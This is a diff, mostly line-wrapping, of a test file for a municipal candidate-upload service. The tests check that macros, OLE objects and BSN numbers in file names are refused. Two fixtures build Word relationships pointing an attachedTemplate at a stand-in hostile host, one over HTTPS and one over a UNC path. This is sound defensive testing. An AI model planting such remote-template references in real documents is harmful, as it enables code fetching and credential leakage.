@@ -1,7 +1,15 @@
 import { afterEach, describe, expect, it } from "vitest";
 import { registeredTimers } from "../shared/http/timers.js";
 import { setClock } from "../shared/domain/clock.js";
-import { BLOB_CONTAINERS, blobBytesRead, blobContainer, blobInfo, candidatePrefix, copyToFiles, snapshotUpload } from "../shared/storage/blob.js";
+import {
+  BLOB_CONTAINERS,
+  blobBytesRead,
+  blobContainer,
+  blobInfo,
+  candidatePrefix,
+  copyToFiles,
+  snapshotUpload,
+} from "../shared/storage/blob.js";
 import { snapshotReadLink } from "../shared/storage/sas.js";
 import { cleanupUploads } from "../shared/services/uploads.js";
 import { HEAD_BYTES, TAIL_BYTES } from "../shared/domain/uploads.js";
@@ -43,7 +51,12 @@ describe("uploads", () => {
     expect(putStatus).toBe(201);
     expect(ticket.uploadUrl).toContain(`/${m}/${c.id}/cv/${ticket.uploadId}?`);
     expect(done.status).toBe(200);
-    expect(done.body.files.cv).toMatchObject({ contentType: "application/pdf", size: 5000, fileName: "Mijn CV.pdf", uploadId: ticket.uploadId });
+    expect(done.body.files.cv).toMatchObject({
+      contentType: "application/pdf",
+      size: 5000,
+      fileName: "Mijn CV.pdf",
+      uploadId: ticket.uploadId,
+    });
     // The file name travelled with the blob; the upload's own record never held it.
     expect(await readUpload(ticket.uploadId)).not.toHaveProperty("fileName");
     const link = await call("GET", `/api/candidates/${c.id}/files/cv`, { token: c.coach });
@@ -68,7 +81,12 @@ describe("uploads", () => {
 
   it("when a Word document carries macros, then it is refused and removed", async () => {
     const c = await signedUpCandidate(newMunicipality());
-    const macro = await upload(c.token, "cv", DOCX_TYPE, zip({ "[Content_Types].xml": "<Types/>", "word/document.xml": "<w:document/>", "word/VBAProject.bin": "VBA" }));
+    const macro = await upload(
+      c.token,
+      "cv",
+      DOCX_TYPE,
+      zip({ "[Content_Types].xml": "<Types/>", "word/document.xml": "<w:document/>", "word/VBAProject.bin": "VBA" }),
+    );
     const res = await complete(c.token, macro.ticket.uploadId);
     expect(res.status).toBe(422);
     expect(res.body.detail).toMatch(/macros/);
@@ -85,7 +103,10 @@ describe("uploads", () => {
       [
         "a renamed vbaProject.bin",
         wordDocument({
-          "[Content_Types].xml": contentTypes('<Override PartName="/word/custom.dat" ContentType="application/vnd.ms-office.vbaProject"/>', "application/vnd.ms-word.document.macroEnabled.main+xml"),
+          "[Content_Types].xml": contentTypes(
+            '<Override PartName="/word/custom.dat" ContentType="application/vnd.ms-office.vbaProject"/>',
+            "application/vnd.ms-word.document.macroEnabled.main+xml",
+          ),
           "word/_rels/document.xml.rels": rels(`<Relationship Id="rId9" Type="${REL.vbaProject}" Target="custom.dat"/>`),
           "word/custom.dat": "VBA",
         }),
@@ -94,7 +115,9 @@ describe("uploads", () => {
       [
         "an embedded oleObject1.bin",
         wordDocument({
-          "[Content_Types].xml": contentTypes('<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'),
+          "[Content_Types].xml": contentTypes(
+            '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>',
+          ),
           "word/embeddings/oleObject1.bin": "OLE",
         }),
         /OLE\/ActiveX/,
@@ -102,7 +125,9 @@ describe("uploads", () => {
       [
         "an OLE object under another name",
         wordDocument({
-          "[Content_Types].xml": contentTypes('<Override PartName="/word/embeddings/e1.dat" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'),
+          "[Content_Types].xml": contentTypes(
+            '<Override PartName="/word/embeddings/e1.dat" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>',
+          ),
           "word/embeddings/e1.dat": "OLE",
         }),
         /OLE\/ActiveX/,
@@ -110,7 +135,9 @@ describe("uploads", () => {
       [
         "a remote attachedTemplate",
         wordDocument({
-          "word/_rels/settings.xml.rels": rels(`<Relationship Id="rId1" Type="${REL.attachedTemplate}" Target="https://evil.example/normal.dotm" TargetMode="External"/>`),
+          "word/_rels/settings.xml.rels": rels(
+            `<Relationship Id="rId1" Type="${REL.attachedTemplate}" Target="https://evil.example/normal.dotm" TargetMode="External"/>`,
+          ),
         }),
         /outside the file.*attachedtemplate/,
       ],
@@ -132,7 +159,9 @@ describe("uploads", () => {
     const bytes = wordDocument({
       "word/document.xml": randomBytes(30_000).toString("base64"),
       "word/media/image1.png": randomBytes(600_000),
-      "word/_rels/settings.xml.rels": rels(`<Relationship Id="rId1" Type="${REL.attachedTemplate}" Target="\\\\evil.example\\t.dotm" TargetMode="External"/>`),
+      "word/_rels/settings.xml.rels": rels(
+        `<Relationship Id="rId1" Type="${REL.attachedTemplate}" Target="\\\\evil.example\\t.dotm" TargetMode="External"/>`,
+      ),
       "word/media/image2.png": randomBytes(600_000),
     });
     const { ticket } = await upload(c.token, "cv", DOCX_TYPE, bytes);
@@ -150,7 +179,8 @@ describe("uploads", () => {
   it("when the file name holds a BSN, declared at the start or set on the PUT, then it is refused", async () => {
     const m = newMunicipality();
     const c = await signedUpCandidate(m);
-    const start = (fileName: string) => call("POST", "/api/me/uploads", { token: c.token, body: { kind: "cv", contentType: "application/pdf", size: 2000, fileName } });
+    const start = (fileName: string) =>
+      call("POST", "/api/me/uploads", { token: c.token, body: { kind: "cv", contentType: "application/pdf", size: 2000, fileName } });
     for (const fileName of ["BSN 111222333.pdf", "１１１２２２３３３.pdf", "bsn_111.222.333.pdf"]) {
       const refused = await start(fileName);
       expect(refused.status, fileName).toBe(400);
@@ -159,7 +189,11 @@ describe("uploads", () => {
 
     // A client that sends another name in the blob's metadata than the one it declared.
     const ok = await start("cv.pdf");
-    const put = await fetch(ok.body.uploadUrl, { method: "PUT", headers: { ...ok.body.headers, "x-ms-meta-filename": encodeURIComponent("BSN 111 222 333.pdf") }, body: pdf(2000) });
+    const put = await fetch(ok.body.uploadUrl, {
+      method: "PUT",
+      headers: { ...ok.body.headers, "x-ms-meta-filename": encodeURIComponent("BSN 111 222 333.pdf") },
+      body: pdf(2000),
+    });
     expect(put.status).toBe(201);
     const res = await complete(c.token, ok.body.uploadId);
 
@@ -170,7 +204,8 @@ describe("uploads", () => {
 
   it("when a candidate starts many uploads and finishes none, then after ten more are refused with 429", async () => {
     const c = await signedUpCandidate(newMunicipality());
-    const start = () => call("POST", "/api/me/uploads", { token: c.token, body: { kind: "photo", contentType: "image/jpeg", size: 10, fileName: "a.jpg" } });
+    const start = () =>
+      call("POST", "/api/me/uploads", { token: c.token, body: { kind: "photo", contentType: "image/jpeg", size: 10, fileName: "a.jpg" } });
     for (let i = 0; i < 10; i++) expect((await start()).status).toBe(201);
     const refused = await start();
     expect(refused.status).toBe(429);
@@ -179,7 +214,11 @@ describe("uploads", () => {
 
   it("when kind, type or size are not allowed, then 400 before any URL is handed out", async () => {
     const c = await signedUpCandidate(newMunicipality());
-    const start = (body: object) => call("POST", "/api/me/uploads", { token: c.token, body: { kind: "photo", contentType: "image/jpeg", size: 10, fileName: "a.jpg", ...body } });
+    const start = (body: object) =>
+      call("POST", "/api/me/uploads", {
+        token: c.token,
+        body: { kind: "photo", contentType: "image/jpeg", size: 10, fileName: "a.jpg", ...body },
+      });
     expect((await start({ contentType: "image/gif" })).status).toBe(400);
     const big = await start({ kind: "video", contentType: "video/mp4", size: 600 * 1024 * 1024 });
     expect(big.status).toBe(400);
@@ -207,7 +246,10 @@ describe("uploads", () => {
 
   it("when nothing was uploaded yet, then 422 and the upload can still be completed later", async () => {
     const c = await signedUpCandidate(newMunicipality());
-    const start = await call("POST", "/api/me/uploads", { token: c.token, body: { kind: "photo", contentType: "image/jpeg", size: 3000, fileName: "me.jpg" } });
+    const start = await call("POST", "/api/me/uploads", {
+      token: c.token,
+      body: { kind: "photo", contentType: "image/jpeg", size: 3000, fileName: "me.jpg" },
+    });
     expect((await complete(c.token, start.body.uploadId)).status).toBe(422);
     await fetch(start.body.uploadUrl, { method: "PUT", headers: start.body.headers, body: jpeg() });
     expect((await complete(c.token, start.body.uploadId)).status).toBe(200);
@@ -216,7 +258,10 @@ describe("uploads", () => {
   it("when the upload URL has expired, then Blob storage refuses the bytes", async () => {
     const c = await signedUpCandidate(newMunicipality());
     setClock({ now: () => new Date(Date.now() - 3600_000) });
-    const start = await call("POST", "/api/me/uploads", { token: c.token, body: { kind: "cv", contentType: "application/pdf", size: 2000, fileName: "cv.pdf" } });
+    const start = await call("POST", "/api/me/uploads", {
+      token: c.token,
+      body: { kind: "cv", contentType: "application/pdf", size: 2000, fileName: "cv.pdf" },
+    });
     setClock(undefined);
     const put = await fetch(start.body.uploadUrl, { method: "PUT", headers: start.body.headers, body: pdf() });
     expect(put.status).toBe(403);
@@ -260,7 +305,10 @@ describe("uploads", () => {
       expect(served.length).toBe(1009);
       expect(served.equals(bytes)).toBe(true);
     }
-    expect((await call("GET", `/api/candidates/${c.id}`, { token: c.coach })).body.files.cv).toMatchObject({ size: 1009, fileName: "cv.pdf" });
+    expect((await call("GET", `/api/candidates/${c.id}`, { token: c.coach })).body.files.cv).toMatchObject({
+      size: 1009,
+      fileName: "cv.pdf",
+    });
 
     // What the URL wrote is never verified and goes with the hourly cleanup; the verified copy stays.
     setClock({ now: () => new Date(Date.now() + 2 * 86_400_000) });
@@ -283,7 +331,10 @@ describe("uploads", () => {
   it("when a verified file is over the synchronous copy limit, then it is copied asynchronously from the checked snapshot", async () => {
     const m = newMunicipality();
     const c = await signedUpCandidate(m);
-    const start = await call("POST", "/api/me/uploads", { token: c.token, body: { kind: "video", contentType: "video/mp4", size: 50_000, fileName: "pitch.mp4" } });
+    const start = await call("POST", "/api/me/uploads", {
+      token: c.token,
+      body: { kind: "video", contentType: "video/mp4", size: 50_000, fileName: "pitch.mp4" },
+    });
     const bytes = mp4(50_000);
     await fetch(start.body.uploadUrl, { method: "PUT", headers: start.body.headers, body: bytes });
     const { blobName } = (await readUpload(start.body.uploadId))!;
@@ -318,7 +369,9 @@ describe("uploads", () => {
     const { ticket } = await upload(c.token, "cv", "application/pdf", pdf());
     await complete(c.token, ticket.uploadId);
     const record = (await readUpload(ticket.uploadId))!;
-    await container("uploads").item(record.id, record.day).patch([{ op: "set", path: "/status", value: "pending" }]);
+    await container("uploads")
+      .item(record.id, record.day)
+      .patch([{ op: "set", path: "/status", value: "pending" }]);
 
     setClock({ now: () => new Date(Date.now() + 2 * 86_400_000) });
     await cleanupUploads({ municipalityId: m });
@@ -397,7 +450,9 @@ describe("uploads", () => {
     const refused = await complete(c.token, second.ticket.uploadId);
 
     expect(refused.status).toBe(409);
-    expect(refused.body.detail).toMatch(/legal hold.*lopende bezwaarprocedure.*Art\. 17\(3\)\(e\).*new upload was not attached and has been removed/);
+    expect(refused.body.detail).toMatch(
+      /legal hold.*lopende bezwaarprocedure.*Art\. 17\(3\)\(e\).*new upload was not attached and has been removed/,
+    );
     expect(await anyBlobsOf(m, c.id)).toEqual([`candidateFiles:${candidatePrefix(m, c.id)}photo/${first.ticket.uploadId}`]);
     expect((await readUpload(second.ticket.uploadId))?.status).toBe("failed");
     expect((await call("GET", "/api/me/profile", { token: c.token })).body.files.photo.uploadId).toBe(first.ticket.uploadId);
